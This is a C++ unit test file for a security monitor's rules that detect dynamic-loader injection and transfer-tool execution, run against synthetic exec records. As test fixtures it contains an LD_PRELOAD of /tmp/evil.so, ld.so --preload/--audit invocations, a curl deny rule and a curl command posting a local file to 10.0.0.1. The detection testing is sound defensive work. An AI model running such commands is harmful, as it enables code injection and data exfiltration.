// Loader injection (issue 12): LD_AUDIT, the last LD_PRELOAD, an environment
// the kernel could not scan to its end, and programs run through ld.so, each
// against preload-injection and transfer-tool-exec on synthetic exec records.
#include <gtest/gtest.h>

#include "rules/rules.h"
#include "support/fixtures.h"
#include "support/rules_fixture.h"

namespace fts::rules {
namespace {

using fts::testing::exec_of;
using fts::testing::task;

constexpr const char* kLdSo = "/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2";

class LoaderRulesTest : public fts::testing::RulesFixture {
 protected:
  void SetUp() override {
    policy::Policy p = base_policy();
    p.spec.mutable_process()->add_deny_exec("**/curl");
    p.spec.mutable_process()->add_allow_preload("/usr/lib/**/libtcmalloc*.so*");
    start(std::move(p));
  }

  decode::Exec child(uint32_t pid, const std::string& exe, std::vector<std::string> args) {
    decode::Exec e = exec_of(task(pid, 1'000'000'000ull + pid * 1'000'000ull), task(100, kRootStart), exe,
                             std::move(args), id_);
    e.cwd = "/work";
    procs_.on_exec(e);
    return e;
  }
};

TEST_F(LoaderRulesTest, LdAuditFiresWithItsValueEvenWhenAllowListed) {
  decode::Exec e = child(101, "/usr/bin/true", {"true"});
  e.audit = "/usr/lib/x86_64-linux-gnu/libtcmalloc_minimal.so.4";
  auto al = run(e);
  ASSERT_EQ(rules_of(al), std::vector<std::string>{"preload-injection"});
  EXPECT_EQ(al[0].severity(), "high");
  EXPECT_NE(al[0].message().find("LD_AUDIT=/usr/lib/x86_64-linux-gnu/libtcmalloc_minimal.so.4"), std::string::npos)
      << al[0].message() << ": an auditor runs at every binding, whatever its name";
}

TEST_F(LoaderRulesTest, PreloadAndAuditTogetherAreTwoFindings) {
  decode::Exec e = child(102, "/usr/bin/true", {"true"});
  e.preload = "/tmp/evil.so";
  e.audit = "/tmp/audit.so";
  auto al = run(e);
  ASSERT_EQ(rules_of(al), (std::vector<std::string>{"preload-injection", "preload-injection"}));
  EXPECT_NE(al[0].message().find("LD_PRELOAD=/tmp/evil.so"), std::string::npos) << al[0].message();
  EXPECT_NE(al[1].message().find("LD_AUDIT=/tmp/audit.so"), std::string::npos) << al[1].message();
}

TEST_F(LoaderRulesTest, ACutEnvironmentScanIsReportedAndAWholeOneIsQuiet) {
  decode::Exec e = child(103, "/usr/bin/true", {"true"});
  EXPECT_TRUE(run(e).empty()) << "an ordinary environment";
  decode::Exec huge = child(104, "/usr/bin/true", {"true"});
  huge.env_truncated = true;
  procs_.on_exec(huge);  // the table learns the exec as the kernel sent it
  auto al = run(huge);
  ASSERT_EQ(rules_of(al), std::vector<std::string>{"preload-injection"});
  EXPECT_EQ(al[0].severity(), "medium");
  EXPECT_NE(al[0].message().find("env_scan_truncated"), std::string::npos) << al[0].message();
  EXPECT_EQ(procs_.find(state::key_of(huge.hdr.task))->flags, std::vector<std::string>{"env_scan_truncated"});
}

TEST_F(LoaderRulesTest, LdSoPreloadAndAuditOptionsFire) {
  decode::Exec e = child(105, kLdSo, {"ld.so", "--preload", "/tmp/evil.so", "--audit", "/tmp/au.so", "/usr/bin/true"});
  auto al = run(e);
  ASSERT_EQ(rules_of(al), (std::vector<std::string>{"preload-injection", "preload-injection"}));
  EXPECT_NE(al[0].message().find("ld.so --preload /tmp/evil.so"), std::string::npos) << al[0].message();
  EXPECT_NE(al[1].message().find("ld.so --audit /tmp/au.so"), std::string::npos) << al[1].message();
  decode::Exec ok = child(106, kLdSo, {"ld.so", "--preload", "/usr/lib/x86_64-linux-gnu/libtcmalloc.so.4", "/usr/bin/true"});
  EXPECT_TRUE(run(ok).empty()) << "an allowed library through --preload, like through LD_PRELOAD";
}

TEST_F(LoaderRulesTest, ATransferToolRunThroughTheLoaderIsTheTool) {
  decode::Exec e = child(107, kLdSo, {"ld.so", "/usr/bin/curl", "-d", "@/data/x", "http://10.0.0.1/"});
  auto al = run(e);
  ASSERT_EQ(rules_of(al), std::vector<std::string>{"transfer-tool-exec"});
  EXPECT_NE(al[0].message().find("/usr/bin/curl through the dynamic loader"), std::string::npos) << al[0].message();
  EXPECT_EQ(procs_.find(state::key_of(e.hdr.task))->loaded_program, "/usr/bin/curl");
  decode::Exec rel = child(108, kLdSo, {"ld.so", "--argv0", "x", "../usr/bin/curl"});
  rel.cwd = "/bin";  // resolved where the job stands
  EXPECT_EQ(rules_of(run(rel)), std::vector<std::string>{"transfer-tool-exec"});
  decode::Exec benign = child(109, kLdSo, {"ld.so", "/usr/bin/python3", "/usr/bin/curl"});
  EXPECT_TRUE(run(benign).empty()) << "curl as the program's argument is not what runs";
}

}  // namespace
}  // namespace fts::rules
